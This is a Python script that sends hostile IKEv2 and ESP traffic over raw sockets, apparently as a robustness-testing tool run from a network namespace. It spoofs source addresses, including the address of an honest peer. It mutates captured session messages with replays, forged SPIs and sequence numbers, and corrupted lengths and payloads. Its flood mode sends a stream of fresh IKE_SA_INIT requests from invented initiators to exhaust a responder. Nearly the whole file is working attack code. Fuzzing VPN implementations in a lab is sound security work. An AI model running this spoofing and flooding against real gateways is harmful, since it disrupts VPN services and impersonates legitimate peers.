"""Hostile datagrams, fast: ``python hostile_process.py WHAT`` sends them from a namespace, from many source addresses.

WHAT is JSON: ``target``, ``count``, ``rate`` (a second), ``seed``, ``peer`` (the address of an honest peer, which is
spoofed as well), ``ike`` and ``esp`` (hexadecimal: messages and packets of a real session).  ``flood`` true: nothing
but sound IKE_SA_INIT requests of invented initiators.  Prints how many went out.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

IKE_PORT, NAT_PORT, NO_PORT = 500, 4500, 0
HEADER = 28
SA_INIT, IKE_AUTH = 34, 35
FREE = 37
NOTIFY, COOKIE = 41, 16390
BURST = 32

Outgoing = tuple[int, bytes]
"""Destination port (NO_PORT: ESP as an IP protocol) and octets."""


def main() -> None:
    what = json.loads(Path(sys.argv[1]).read_text())
    rng = random.Random(what["seed"])
    attack = Attack(rng, [bytes.fromhex(text) for text in what["ike"]], [bytes.fromhex(text) for text in what["esp"]])
    datagrams = attack.flood() if what["flood"] else attack.anything()
    sent = send(rng, datagrams, what)
    sys.stdout.write(f"{sent}\n")


def send(rng: random.Random, datagrams: Iterator[Outgoing], what: dict[str, object]) -> int:
    """Paced in bursts; a full queue of our own is waited for, so that all of them go out."""
    target, count, rate = str(what["target"]), int(str(what["count"])), float(str(what["rate"]))
    begin, sent = time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        destination = socket.inet_aton(target)
        while sent < count:
            for _ in range(min(BURST, count - sent)):
                port, data = next(datagrams)
                raw.sendto(packet(source(rng, str(what["peer"])), destination, rng, port, data), (target, 0))
                sent += 1
            ahead = begin + sent / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    return sent


def source(rng: random.Random, peer: str) -> bytes:
    """The honest peer, its neighbours on the link, and the rest of the world."""
    kind = rng.randrange(4)
    if kind == 0:
        return socket.inet_aton(peer)
    if kind == 1:
        return bytes((192, 0, 2, rng.randrange(30, 250)))
    return bytes((rng.choice((198, 203)), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255)))


def packet(origin: bytes, destination: bytes, rng: random.Random, port: int, data: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in its checksum."""
    protocol = 50 if port == NO_PORT else 17
    if port != NO_PORT:
        own = port if rng.random() < 0.5 else rng.randrange(1024, 65536)
        data = struct.pack("!HHHH", own, port, 8 + len(data), 0) + data
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(data), rng.randrange(65536), 0, 64, protocol, 0)
    return header + origin + destination + data


class Attack:
    """Spoils what a real session has sent."""

    def __init__(self, rng: random.Random, ike: list[bytes], esp: list[bytes]) -> None:
        self.rng = rng
        self.ike = ike
        self.esp = esp
        self.inits = [one for one in ike if one[18] == SA_INIT and not one[19] & 0x20 and one[8:16] == bytes(8)]
        self.spoilers: list[Callable[[bytearray], bytearray]] = [
            self.as_it_is,
            self.flipped,
            self.flipped,
            self.truncated,
            self.prolonged,
            self.wrong_length,
            self.other_spis,
            self.other_header,
            self.other_fragment,
            self.shuffled,
            self.shuffled,
            self.with_cookie,
            self.anew,
        ]

    def anything(self) -> Iterator[Outgoing]:
        rng = self.rng
        while True:
            kind = rng.randrange(10)
            if kind == 0:
                yield rng.choice((IKE_PORT, NAT_PORT, NO_PORT)), rng.randbytes(rng.randrange(1400))
            elif kind <= 2:
                yield self.spoiled_esp()
            else:
                message = bytearray(rng.choice(self.inits if kind == 3 else self.ike))
                for _ in range(rng.choice((1, 1, 1, 2))):
                    message = rng.choice(self.spoilers)(message)
                data = bytes(message)[:1460]
                yield (IKE_PORT, data) if rng.random() < 0.5 else (NAT_PORT, bytes(4) + data)

    def flood(self) -> Iterator[Outgoing]:
        while True:
            yield IKE_PORT, bytes(self.anew(bytearray(self.rng.choice(self.inits))))

    def spoiled_esp(self) -> Outgoing:
        """Replays, forged sequence numbers and SPIs, spoiled ciphertexts, in UDP or not."""
        rng, data = self.rng, bytearray(self.rng.choice(self.esp))
        kind = rng.randrange(7)
        if kind == 1:
            data = self.flipped(data)
        elif kind == 2:
            data[4:8] = rng.randbytes(4)
        elif kind == 3:
            data[4:8] = (int.from_bytes(data[4:8], "big") + rng.randrange(1, 3000)).to_bytes(4, "big")
        elif kind == 4:
            data[:4] = rng.randbytes(4)
        elif kind == 5:
            data = self.truncated(data)
        elif kind == 6:
            data = bytearray(rng.choice((b"\xff", b"", b"\0\0\0\0", b"\0\0\0\0\xff", bytes(8), bytes(3))))
        return rng.choice((NAT_PORT, NO_PORT)), bytes(data)

    # What becomes of a message

    def as_it_is(self, data: bytearray) -> bytearray:
        return data

    def flipped(self, data: bytearray) -> bytearray:
        for _ in range(self.rng.choice((1, 1, 2, 8))):
            if data:
                data[self.rng.randrange(len(data))] ^= 1 << self.rng.randrange(8)
        return data

    def truncated(self, data: bytearray) -> bytearray:
        del data[self.rng.randrange(len(data) + 1) :]
        return self.maybe_consistent(data)

    def prolonged(self, data: bytearray) -> bytearray:
        data += self.rng.randbytes(self.rng.randrange(1, 200))
        return self.maybe_consistent(data)

    def wrong_length(self, data: bytearray) -> bytearray:
        """Of the message, of a payload, of a proposal: two octets anywhere that say something else."""
        at = 24 if self.rng.random() < 0.3 else self.rng.randrange(max(1, len(data) - 4))
        value = self.rng.choice((0, 1, 3, 4, 0x7FFF, 0xFFFF, len(data), self.rng.randrange(65536)))
        data[at : at + 2] = value.to_bytes(2, "big")
        return data

    def other_spis(self, data: bytearray) -> bytearray:
        kind = self.rng.randrange(4)
        if kind == 0:
            data[0:8] = self.rng.randbytes(8)
        elif kind == 1:
            data[8:16] = self.rng.randbytes(8)
        elif kind == 2:
            data[0:16] = self.rng.randbytes(16)
        else:
            data[0:8], data[8:16] = data[8:16], data[0:8]
        return data

    def other_header(self, data: bytearray) -> bytearray:
        at = self.rng.choice((16, 17, 18, 19, 20, 21, 22, 23, 23))
        if at < len(data):
            data[at] = self.rng.choice((0, 1, 2, 3, 0x08, 0x20, 0x28, 34, 35, 36, 37, 46, 53, self.rng.randrange(256)))
        return data

    def other_fragment(self, data: bytearray) -> bytearray:
        """Number and total of an SKF payload (RFC 7383 section 2.5)."""
        at = self.rng.choice((32, 34))
        if len(data) > 40 and data[16] == 53:
            data[at : at + 2] = self.rng.choice((0, 1, 2, 64, 65, 0xFFFF)).to_bytes(2, "big")
        return data

    def shuffled(self, data: bytearray) -> bytearray:
        """Payloads doubled, dropped, in another order, with the critical bit set."""
        payloads = chain(data)
        rng = self.rng
        if payloads:
            for _ in range(rng.randrange(1, 4)):
                at = rng.randrange(len(payloads))
                payloads.insert(rng.randrange(len(payloads) + 1), payloads[at])
            if rng.random() < 0.5:
                del payloads[rng.randrange(len(payloads))]
            if rng.random() < 0.5:
                rng.shuffle(payloads)
            if rng.random() < 0.2:
                payloads.insert(0, (rng.randrange(256), rng.choice((0, 0x80)), rng.randbytes(rng.randrange(20))))
        return joined(data, payloads)

    def with_cookie(self, data: bytearray) -> bytearray:
        body = struct.pack("!BBH", 0, 0, COOKIE) + self.rng.randbytes(self.rng.choice((0, 1, 17, 64, 65)))
        return joined(data, [(NOTIFY, 0, body), *chain(data)])

    def anew(self, data: bytearray) -> bytearray:
        """Another initiator's first request: SPI and nonce are new, so it is answered as if it were honest."""
        data[0:8] = self.rng.randbytes(8)
        payloads = [
            (kind, flags, self.rng.randbytes(len(body)) if kind == 40 else body) for kind, flags, body in chain(data)
        ]
        return joined(data, payloads)

    def maybe_consistent(self, data: bytearray) -> bytearray:
        if len(data) >= HEADER and self.rng.random() < 0.6:
            data[24:28] = len(data).to_bytes(4, "big")
        return data


Chain = list[tuple[int, int, bytes]]


def chain(data: bytearray) -> Chain:
    """Type, flags and body of the payloads, as far as they make sense; an encrypted one is the last."""
    payloads: Chain = []
    if len(data) < HEADER:
        return payloads
    kind, offset = data[16], HEADER
    while kind and offset + 4 <= len(data):
        following, flags, length = struct.unpack_from("!BBH", data, offset)
        if length < 4 or offset + length > len(data):
            break
        payloads.append((kind, flags, bytes(data[offset + 4 : offset + length])))
        kind, offset = following if kind not in (46, 53) else 0, offset + length
    return payloads


def joined(data: bytearray, payloads: Chain) -> bytearray:
    """The message with these payloads, all lengths right."""
    result = data[:HEADER]
    if len(result) < HEADER:
        return data
    kinds = [kind for kind, _, _ in payloads] + [0]
    result[16] = kinds[0]
    for number, (_, flags, body) in enumerate(payloads):
        result += struct.pack("!BBH", kinds[number + 1], flags, len(body) + 4) + body
    result[24:28] = len(result).to_bytes(4, "big")
    return result


if __name__ == "__main__":
    main()
